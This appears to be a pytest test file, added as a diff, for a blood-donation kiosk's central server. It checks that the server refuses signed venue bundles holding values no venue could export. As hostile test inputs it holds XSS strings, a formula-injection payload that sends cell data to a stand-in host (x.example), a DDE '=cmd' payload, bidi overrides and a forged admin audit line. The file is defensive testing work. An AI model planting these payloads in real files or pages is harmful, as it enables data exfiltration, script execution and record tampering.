@@ -1,0 +1,269 @@
+"""The centre reads every value of a bundle as the venue's own forms check it (issue 13): a
+bundle signed by a trusted venue but holding a value no venue could export is refused whole,
+with one line naming the bundle, the member, the row and the field, and every table of the
+centre is left as it was (row counts and a hash of the rows).
+
+The hostile bundles are signed with the test venues' key: only a trusted bundle reaches these
+checks (tests/cli/test_trust.py refuses the others before).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+
+import pytest
+
+from kiosk.domain.exchange.columns import EVENT_COLUMNS, EVENTS_CSV, MANIFEST, VISITS_JSON
+from kiosk.domain.exchange.files import csv_bytes, csv_value, file_entry
+from kiosk.domain.exchange.verify import bundle_members
+from tests.cli.test_central import signed_zip
+from tests.support.centre_state import centre_state
+from tests.support.venue_day import VENUE_NAME, VENUE_PUBLIC, venue_bundle
+
+
+@pytest.fixture(scope="module")
+def day(tmp_path_factory):
+    """Twelve visits: donations, both deferrals, a no-show, one left, one still waiting."""
+    return venue_bundle(tmp_path_factory.mktemp("venue"), donors=12, still_waiting=1)
+
+
+@pytest.fixture
+def centre(tmp_path, kiosk_command):
+    url = f"sqlite:///{tmp_path / 'centre.sqlite3'}"
+    run = kiosk_command(tmp_path / "centre", url)
+    added = run("central", "trust", "add", VENUE_NAME, VENUE_PUBLIC)
+    assert added.exit_code == 0, added.output
+    run.url = url  # type: ignore[attr-defined]
+    return run
+
+
+def resigned(bundle: bytes, visits=None, events: bytes | None = None) -> bytes:
+    """The bundle with visits.json (and events.csv) replaced, its manifest's entries recomputed
+    and signed again with the venue's key: what a venue's stolen key, or a venue's bug, makes.
+    The manifest keeps no figures (as an older one): its counts are not what is tested here."""
+    files = bundle_members(bundle)
+    manifest = json.loads(files[MANIFEST])
+    if visits is not None:
+        document = json.loads(files[VISITS_JSON])
+        document["visits"] = visits
+        files[VISITS_JSON] = json.dumps(document).encode()
+    if events is not None:
+        files[EVENTS_CSV] = events
+    for name in (VISITS_JSON, EVENTS_CSV):
+        manifest["files"][name] = file_entry(files[name])
+    manifest.pop("figures", None)
+    files[MANIFEST] = json.dumps(manifest).encode()
+    return signed_zip(files)
+
+
+def visits_of(bundle: bytes) -> list[dict]:
+    return json.loads(bundle_members(bundle)[VISITS_JSON])["visits"]
+
+
+def events_of(bundle: bytes) -> list[dict]:
+    text = bundle_members(bundle)[EVENTS_CSV].decode("utf-8-sig")
+    return [
+        {column: csv_value(value) for column, value in row.items()}
+        for row in csv.DictReader(io.StringIO(text, newline=""))
+    ]
+
+
+def first(visits: list[dict], **wanted) -> int:
+    """The index of the first visit whose columns hold these values (None: any non-empty)."""
+    for index, visit in enumerate(visits):
+        if all(
+            visit[column] is not None if value is None else visit[column] == value
+            for column, value in wanted.items()
+        ):
+            return index
+    raise AssertionError(f"no visit with {wanted}")
+
+
+def refused(centre, tmp_path, data: bytes, *expected: str) -> str:
+    path = tmp_path / "day.zip"
+    path.write_bytes(data)
+    before = centre_state(centre.url)
+    result = centre("central", "import", str(path))
+    assert result.exit_code == 1, result.output
+    lines = result.output.strip().splitlines()
+    assert len(lines) == 1 and "Traceback" not in result.output, result.output
+    line = lines[0]
+    assert line.startswith(f"kiosk: {path}: ") and line.endswith("; nothing imported"), line
+    for part in expected:
+        assert part in line, line
+    assert centre_state(centre.url) == before
+    return line
+
+
+# (what the visit must be, the changes, what the line says)
+VISIT_ATTACKS = {
+    "cin-markup": (
+        {"donor_cin": None},
+        {"donor_cin": "<img src=x onerror=alert(1)>"},
+        "donor_cin: '<img src=x onerror=alert(1)>' is not a CIN a venue accepts",
+    ),
+    "systolic-99999": (
+        {"decision": None},
+        {"systolic": 99999},
+        "systolic: 99999 is not a blood pressure a venue accepts (60 to 260)",
+    ),
+    "haemoglobin-1e308": (
+        {"decision": None},
+        {"hemoglobin_g_dl": 1e308},
+        "hemoglobin_g_dl: 1e+308 is not a haemoglobin value a venue accepts",
+    ),
+    "weight-minus-5": (
+        {"decision": None},
+        {"weight_kg": -5},
+        "weight_kg: -5.0 is not a weight a venue accepts (30 to 250)",
+    ),
+    "birth-1066": (
+        {},
+        {"birth_date": "1066-10-14"},
+        "birth_date: 1066-10-14 is not a birth date a venue accepts (older than 65",
+    ),
+    "category-hacker": (
+        {},
+        {"category": "hacker"},
+        "category: 'hacker' is not a donor category a venue accepts",
+    ),
+    "category-root": ({}, {"category": "root"}, "category: 'root'"),
+    "name-formula": (
+        {},
+        {"last_name": '=HYPERLINK("http://x.example/?"&A1,"ok")'},
+        "last_name: '=HYPERLINK(",
+    ),
+    "name-bidi-override": ({}, {"first_name": "Fat\u202eima"}, "first_name: 'Fat\\u202eima'"),
+    "phone": ({}, {"phone": "+33612345678"}, "phone: '+33612345678' is not a phone number"),
+    "age-not-of-birth-date": ({}, {"age": 99}, "age: 99 is not the donor's age"),
+    "blood-group": ({}, {"declared_blood_group": "Z+"}, "declared_blood_group: 'Z+'"),
+    "queue-number-0": ({}, {"queue_number": 0}, "queue_number: 0 is not a queue number"),
+    "registered-another-day": (
+        {},
+        {"registered_at": "2026-11-20T09:00:00+00:00"},
+        "registered_at: 2026-11-20T09:00:00+00:00 is not a registration time",
+    ),
+    "registered-after-export": (
+        {},
+        {"registered_at": "2026-11-24T23:00:00+00:00"},
+        "after the bundle was made",
+    ),
+    "reason-code": (
+        {"decision": "deferred_permanent"},
+        {"deferral_reason": "because"},
+        "deferral_reason: 'because' is not a deferral reason",
+    ),
+    "deferral-ten-years": (
+        {"decision": "deferred_temporary"},
+        {"deferral_until": "2036-11-24"},
+        "deferral_until: 2036-11-24 is not a deferral's end a venue accepts (more than three",
+    ),
+    "eligible-with-a-reason": (
+        {"decision": "eligible"},
+        {"deferral_reason": "other"},
+        "deferral_reason: 'other' is not a deferral reason a venue accepts (given without",
+    ),
+    "interviewer-markup": (
+        {"decision": None},
+        {"interviewer": "<b>dr</b>"},
+        "interviewer: '<b>dr</b>' is not a staff account's name",
+    ),
+    "bag-number-markup": (
+        {"bag_number": None},
+        {"bag_number": "<svg onload=1>"},
+        "bag_number: '<svg onload=1>' is not a bag number a venue accepts",
+    ),
+    "bag-number-formula": ({"bag_number": None}, {"bag_number": "=1+1"}, "bag_number: '=1+1'"),
+    "volume": ({"bag_number": None}, {"volume_ml": 5000}, "volume_ml: 5000 is not a volume"),
+    "donation-before-start": (
+        {"bag_number": None},
+        {"donation_ended_at": "2026-11-24T07:00:00+00:00"},
+        "donation_ended_at: 2026-11-24T07:00:00+00:00",
+    ),
+    "done-without-a-donation": (
+        {"decision": "deferred_permanent"},
+        {"stage_final": "done"},
+        "stage_final: 'done' is not a stage a venue accepts (a visit there needs",
+    ),
+    "huge-text": ({}, {"last_name": "A" * 5000}, "last_name: longer than 1000 characters"),
+}
+
+
+@pytest.mark.parametrize("attack", list(VISIT_ATTACKS))
+def test_a_value_no_venue_exports_refuses_the_bundle(day, centre, tmp_path, attack):
+    wanted, changes, expected = VISIT_ATTACKS[attack]
+    visits = visits_of(day.bundle)
+    index = first(visits, **wanted)
+    visits[index].update(changes)
+    refused(centre, tmp_path, resigned(day.bundle, visits), f"visits.json row {index + 1}, ")
+    line = refused(centre, tmp_path, resigned(day.bundle, visits), expected)
+    assert line.startswith(f"kiosk: {tmp_path / 'day.zip'}: visits.json row {index + 1}, ")
+
+
+EVENT_ATTACKS = {
+    "actor-formula": ({"actor": "=cmd|' /C calc'!A0"}, "actor: \"=cmd|' /C calc'!A0\" is not"),
+    "actor-markup": ({"actor": "<script>x</script>"}, "actor: '<script>x</script>'"),
+    "unknown-action": ({"action": "grant_admin"}, "action: 'grant_admin' is not an action"),
+    "desk-bidi": ({"desk": "Desk\u202e1"}, "desk: 'Desk\\u202e1' is not a desk's name"),
+    "stage": ({"to_stage": "heaven"}, "to_stage: 'heaven' is not a stage"),
+    "another-day": ({"at": "2025-01-01T09:00:00+00:00"}, "at: 2025-01-01T09:00:00+00:00"),
+    "number": ({"queue_number": "12345678"}, "queue_number: '12345678' is not a queue number"),
+}
+
+
+@pytest.mark.parametrize("attack", list(EVENT_ATTACKS))
+def test_an_audit_line_no_venue_writes_refuses_the_bundle(day, centre, tmp_path, attack):
+    changes, expected = EVENT_ATTACKS[attack]
+    events = events_of(day.bundle)
+    events[2].update(changes)
+    content = csv_bytes(EVENT_COLUMNS, events)
+    refused(centre, tmp_path, resigned(day.bundle, events=content), "events.csv line 4, ", expected)
+
+
+def test_an_arbitrary_audit_line_added_to_the_log_is_refused(day, centre, tmp_path):
+    events = events_of(day.bundle)
+    events.append(
+        {
+            "at": "2026-11-24T08:05:00+00:00",
+            "actor": "mallory",
+            "device": "10.0.0.66",
+            "campaign_date": "",
+            "queue_number": "",
+            "action": "staff_add",
+            "from_stage": "",
+            "to_stage": "",
+            "desk": "",
+            "detail": "mallory (coordinator)",
+        }
+    )
+    content = csv_bytes(EVENT_COLUMNS, events)
+    refused(
+        centre,
+        tmp_path,
+        resigned(day.bundle, events=content),
+        f"events.csv line {len(events) + 1}, action: 'staff_add' is not an action",
+    )
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("9999-12-31T23:59:59-14:00", "registered_at"),
+        ("0001-01-01T00:00:00+14:00", "registered_at"),
+    ],
+)
+def test_a_time_at_the_calendar_edge_is_one_line(day, centre, tmp_path, value, expected):
+    visits = visits_of(day.bundle)
+    visits[0]["registered_at"] = value
+    refused(centre, tmp_path, resigned(day.bundle, visits), "visits.json row 1, ", expected)
+
+
+def test_the_untouched_bundle_goes_in(day, centre, tmp_path):
+    """The control: the same re-signing with nothing changed is imported."""
+    path = tmp_path / "day.zip"
+    path.write_bytes(resigned(day.bundle, visits_of(day.bundle)))
+    result = centre("central", "import", str(path))
+    assert result.exit_code == 0, result.output
+    assert "12 visits" in result.output
